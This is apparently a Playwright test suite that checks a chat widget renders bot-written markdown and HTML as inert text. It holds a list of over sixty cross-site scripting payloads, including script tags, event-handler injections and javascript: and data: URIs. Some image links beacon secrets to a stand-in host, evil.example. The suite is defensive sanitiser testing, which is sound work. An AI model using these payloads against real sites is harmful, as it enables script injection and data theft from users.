"""What a bot writes never runs, never loads anything and never becomes another element."""

from __future__ import annotations

import pytest
from playwright.async_api import Page, Request
from widget_standin import StandIn

pytestmark = pytest.mark.asyncio(loop_scope="session")

# The last three are the buttons that copy code.
ALLOWED = {
    *("A", "BLOCKQUOTE", "BR", "CODE", "DEL", "DIV", "EM", "H3", "H4", "H5", "H6", "HR", "LI"),
    *("OL", "P", "PRE", "SPAN", "STRONG", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL"),
    *("BUTTON", "svg", "path"),
}

PAYLOADS = [
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:pwned()></iframe>",
    "<details open ontoggle=pwned()>",
    "<body onload=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<form action=https://evil.example><button>go</button></form>",
    "<a href=javascript:pwned()>x</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>",
    "<base href=https://evil.example/>",
    "<template><img src=x onerror=pwned()></template>",
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x]( javascript:pwned())",
    "[x](java\nscript:pwned())",
    "[x](java\tscript:pwned())",
    "[x](\x01javascript:pwned())",
    "[x](<javascript:pwned()>)",
    "[x](javascript&#58;pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](vbscript:pwned())",
    "[x](data:text/html,<script>pwned()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](intent://evil)",
    "<javascript:pwned()>",
    "![x](javascript:pwned())",
    "![x](data:image/svg+xml,<svg onload=pwned()>)",
    "![leak](https://evil.example/?q=secret)",
    "![](https://evil.example/p.gif)",
    "[![x](https://evil.example/p.gif)](javascript:pwned())",
    '[x](https://x.example "onmouseover=pwned()")',
    '[x](https://x.example" onmouseover="pwned())',
    "[x](https://x.example'onclick='pwned())",
    "[<img src=x onerror=pwned()>](https://x.example)",
    'https://x.example/"onmouseover=pwned()',
    "https://x.example/<img/src=x/onerror=pwned()>",
    '```" onmouseover="pwned()\ncode\n```',
    "```<img src=x onerror=pwned()>\ncode\n```",
    "`<img src=x onerror=pwned()>`",
    "| <img src=x onerror=pwned()> |\n|---|\n| [x](javascript:pwned()) |",
    "> <img src=x onerror=pwned()>",
    "- <img src=x onerror=pwned()>",
    "# <img src=x onerror=pwned()>",
    "*<img src=x onerror=pwned()>*",
    "<<img src=x onerror=pwned()>",
    "\\<img src=x onerror=pwned()\\>",
    "&lt;img src=x onerror=pwned()&gt;",
    "<img\nsrc=x\nonerror=pwned()>",
    "<a:javascript:pwned()>",
    "[x](mailto:a@b.example?body=<script>pwned()</script>)",
    "\u202ejavascript:pwned()",
    "{{constructor.constructor('pwned()')()}}",
]

LOOK = """() => {
  const root = document.querySelector("#chat-gateway").shadowRoot.querySelector(".list");
  const all = [...root.querySelectorAll(".text *, .below *")];
  return {
    tags: all.map(({ tagName }) => tagName),
    handlers: all.flatMap((element) => element.getAttributeNames())
      .filter((name) => name.startsWith("on") || ["style", "src", "srcdoc"].includes(name)),
    schemes: all.filter(({ href }) => href).map(({ protocol }) => protocol),
    rels: all.filter(({ href }) => href).map(({ rel, target }) => `${rel}|${target}`),
    pwned: window.isPwned ?? false,
  };
}"""


async def test_payloads_stay_text(page: Page, gateway: StandIn) -> None:
    assert len(PAYLOADS) >= 60
    gateway.history = [
        {"kind": "bot", "turn": str(turn), "text": payload, "state": "done", "at": 1}
        for turn, payload in enumerate(PAYLOADS, 1)
    ]
    await page.add_init_script("window.pwned = () => { window.isPwned = true; }")
    requests: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith(gateway.origin):
            requests.append(request.url)

    page.on("request", note)
    await page.goto(gateway.embedded(attributes="data-open"))
    await page.locator("[data-role=bot]").nth(len(PAYLOADS) - 1).wait_for()
    for link in await page.locator(".text a").all():
        await link.dispatch_event("mouseover")
    await page.wait_for_timeout(200)
    found = await page.evaluate(LOOK)
    assert set(found["tags"]) <= ALLOWED
    assert found["handlers"] == []
    assert set(found["schemes"]) <= {"http:", "https:", "mailto:", "tel:"}
    assert set(found["rels"]) == {"noopener noreferrer nofollow ugc|_blank"}
    assert found["pwned"] is False
    assert requests == []


async def test_what_comes_beside_the_text_is_no_way_in_either(page: Page, gateway: StandIn) -> None:
    bad = "<img src=x onerror=pwned()>"
    gateway.title = gateway.opening = bad
    gateway.history = [
        {"kind": "user", "id": '"><img src=x onerror=pwned()>', "turn": "1", "text": bad, "at": 1},
        {
            "kind": "bot",
            "turn": '1"] *, [x="',
            "text": "",
            "state": "failed",
            "notices": [bad],
            "at": 1,
            "sources": [{"title": bad, "url": "javascript:pwned()", "excerpt": bad}],
            "files": [{"name": bad, "media_type": "x", "url": "javascript:pwned()", "size": 1}],
            "suggestions": [bad],
            "choices": {"prompt": bad, "items": [{"value": bad, "label": bad}]},
        },
    ]
    await page.add_init_script("window.pwned = () => { window.isPwned = true; }")
    await page.goto(gateway.embedded(attributes="data-open"))
    await page.locator("[data-role=bot]").wait_for()
    found = await page.evaluate(LOOK)
    assert not {"IMG", "SCRIPT"} & set(found["tags"])
    assert found["schemes"] == found["handlers"] == []
    assert found["pwned"] is False
